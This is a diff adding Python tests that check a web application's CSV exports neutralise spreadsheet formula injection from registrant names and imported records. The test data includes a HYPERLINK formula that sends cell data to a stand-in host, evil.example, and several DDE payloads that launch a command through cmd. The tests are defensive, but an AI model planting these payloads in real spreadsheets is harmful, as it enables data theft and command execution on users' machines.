@@ -59,3 +59,81 @@ def test_a_cursor_beyond_the_database_is_a_400(client, demo, payload):
     response = client.get(f"/api/v1/organisations?cursor={cursor_of(payload)}{sort}")
     assert response.status_code == 400
     assert response.json()["parameter"] == "cursor"
+
+
+# 3. Formula injection in spreadsheets --------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
+
+
+def csv_cells(body: bytes) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+
+
+def test_a_registrant_cannot_plant_a_formula_in_the_organisers_csv(client, moderator):
+    from essaim.commons.models import Event
+    from tests.helpers import upcoming_event
+
+    event = upcoming_event()
+    url = f"/en/events/{event.pk}/{event.slug}/register/"
+    for name, email in [(FORMULA, "a@example.org"), ("@SUM(1+1)*cmd|' /C calc'!A0", "b@example.org"),
+                        ("-2+3+cmd|' /C calc'!A0", "c@example.org"), ("+33 6 12 34 56 78", "d@example.org")]:  # fmt: skip
+        client.post(url, {"name": name, "email": email, "organisation_name": "Coop",
+                          "seat_locality": "Lille", "seat_country": "FR"})  # fmt: skip
+    client.force_login(moderator)
+    event = Event.objects.get(pk=event.pk)
+    assert event.registrations.count() == 4
+    rows = csv_cells(client.get(f"/en/events/{event.pk}/{event.slug}/registrations.csv").content)
+    names = [row[0] for row in rows[1:]]
+    assert "'" + FORMULA in names
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
+    assert "'-2+3+cmd|' /C calc'!A0" in names
+    assert "+33 6 12 34 56 78" in names, "a phone number is not a formula: left as it is"
+    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
+
+
+def test_exports_neutralise_formulas_and_an_import_gives_them_back(client, demo, commit, tmp_path):
+    from tests.test_imports import run_import, write_csv
+
+    path = write_csv(tmp_path / "planted.csv", [
+        ["p-1", FORMULA, "Lille", "FR", "50.63", "-3.06", "digital-mediation", ""],
+        ["p-2", "@danger", "Lille", "FR", "50.63", "3.06", "digital-mediation", ""],
+        ["p-3", "''=an apostrophe first", "Lille", "FR", "", "", "digital-mediation", ""],
+    ])  # fmt: skip
+    run_import(path, commit, source="planted")
+    body = b"".join(client.get("/exports/organisations.csv?q=lille").streaming_content)
+    rows = csv_cells(body)
+    header = rows[0]
+    by_name = {row[header.index("name")]: row for row in rows[1:]}
+    assert "'" + FORMULA in by_name
+    assert "'@danger" in by_name
+    assert "''=an apostrophe first" in by_name
+    assert by_name["'" + FORMULA][header.index("longitude")] == "-3.06"
+    assert not any(cell.startswith(("=", "@", "+")) for row in rows[1:] for cell in row)
+
+    # The export, imported again as another source, gives the same names back.
+    export = tmp_path / "export.csv"
+    export.write_bytes(body)
+    run_import(export, commit, source="again", partial=True)
+    from essaim.atlas.models import Organisation
+
+    names = set(Organisation.objects.filter(source="again").values_list("name", flat=True))
+    assert {FORMULA, "@danger", "'=an apostrophe first"} <= names
+
+
+def test_the_lmn_export_neutralises_formulas(client, demo, commit, tmp_path):
+    from tests.test_imports import run_import, write_csv
+
+    header = ["id", "name", "address", "postal_code", "locality", "country", "services"]
+    path = write_csv(tmp_path / "place.csv", [
+        ["m-1", "=1+cmd|' /C calc'!A0", "1 rue de la Paix", "59000", "Lille", "FR",
+         "digital-mediation"],
+    ], header=header)  # fmt: skip
+    run_import(path, commit, source="places")
+    rows = csv_cells(b"".join(client.get("/exports/lieux-de-mediation-numerique.csv").streaming_content))
+    header = rows[0]
+    names = [row[header.index("nom")] for row in rows[1:]]
+    assert "'=1+cmd|' /C calc'!A0" in names
